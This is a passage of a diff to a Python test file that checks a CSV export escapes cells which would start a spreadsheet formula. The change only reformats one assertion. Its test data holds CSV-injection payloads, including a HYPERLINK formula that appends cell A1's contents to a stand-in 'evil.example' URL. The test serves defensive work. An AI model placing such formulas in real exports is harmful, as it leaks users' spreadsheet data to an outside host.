@@ -47,7 +47,14 @@ def test_a_flood_without_tokens_is_counted_not_written_row_by_row(ctx: Flask, cl
 
 def test_csv_cells_that_start_a_formula_are_neutralised(ctx: Flask, client: FlaskClient) -> None:
     assert csv_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
-    assert [csv_cell(v) for v in ("+1", "-2", "@SUM(A1)", "\t=1", "普通", 7)] == ["'+1", "'-2", "'@SUM(A1)", "'\t=1", "普通", 7]
+    assert [csv_cell(v) for v in ("+1", "-2", "@SUM(A1)", "\t=1", "普通", 7)] == [
+        "'+1",
+        "'-2",
+        "'@SUM(A1)",
+        "'\t=1",
+        "普通",
+        7,
+    ]
     admin = f.staff(Role.ADMIN)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
     with acting_as(Actor(None, "partner")), unit_of_work() as s:
